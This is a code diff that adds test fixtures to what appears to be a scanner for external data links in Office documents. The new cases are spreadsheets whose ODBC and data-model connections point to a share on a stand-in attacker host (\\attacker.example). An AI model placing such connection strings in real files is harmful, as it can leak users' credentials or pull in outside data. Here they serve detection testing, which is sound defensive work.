@@ -568,6 +568,17 @@ _LOCAL_QUERY = (
     " in Typed;\n"
 )
 _LOCAL_TEXT = '<textPr sourceFile="C:\\Users\\agent\\Documents\\orders.csv" delimited="1"/>'
+# an ODBC text driver reading a folder on a share (DBQ empty: the folder is in DefaultDir)
+_DEFAULT_DIR = (
+    '<dbPr connection="Driver={Microsoft Access Text Driver (*.txt, *.csv)};DBQ=;'
+    'DefaultDir=\\\\attacker.example\\s;" command="SELECT * FROM orders.csv"/>'
+)
+_X15_OLEDB = (  # Excel 2013's data model connection, in an extension of the connection
+    '<extLst><ext uri="{DE250136-89BD-433C-8126-D09CA5730AF9}" xmlns:x15="http://schemas.'
+    'microsoft.com/office/spreadsheetml/2010/11/main"><x15:connection id="m" model="1">'
+    '<x15:oledbPr connection="Provider=Microsoft.ACE.OLEDB.12.0;Data Source=\\\\attacker.'
+    'example\\s\\m.accdb"/></x15:connection></ext></extLst>'
+)
 EXTERNAL_DATA: list[tuple[str, str, Callable[[], bytes], str | None]] = [
     ("xlsx-web-query", "orders.xlsx", partial(_connected_book, _connection(_WEB)), "EXTERNAL_LINK"),
     (
@@ -592,6 +603,18 @@ EXTERNAL_DATA: list[tuple[str, str, Callable[[], bytes], str | None]] = [
         "docx-mail-merge-network-database",
         "letter.docx",
         partial(_merge_letter, "\\\\attacker.example\\s\\customers.xlsx"),
+        "EXTERNAL_LINK",
+    ),
+    (
+        "xlsx-odbc-folder-on-network-share",
+        "orders.xlsx",
+        partial(_connected_book, _connection(_DEFAULT_DIR)),
+        "EXTERNAL_LINK",
+    ),
+    (
+        "xlsx-data-model-database-on-network-share",
+        "orders.xlsx",
+        partial(_connected_book, _connection(_X15_OLEDB)),
         "EXTERNAL_LINK",
     ),
     (
